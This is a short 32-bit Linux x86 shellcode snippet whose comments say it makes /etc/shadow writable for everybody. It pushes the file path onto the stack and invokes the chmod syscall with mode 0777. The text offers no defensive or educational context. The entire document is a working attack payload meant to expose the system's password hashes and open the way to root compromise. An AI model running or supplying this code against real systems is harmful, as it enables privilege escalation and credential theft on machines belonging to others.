; Linux, 32 bit: makes /etc/shadow writable for everybody. The mode is pushed as two bytes and taken as four: what lies
; above it is the path's, and the system does not look at it.
bits 32
        xor eax, eax
        push eax
        push dword 'adow'
        push dword 'c/sh'
        push dword '//et'
        mov ebx, esp
        push word 777q
        pop ecx
        mov al, 15
        int 80h
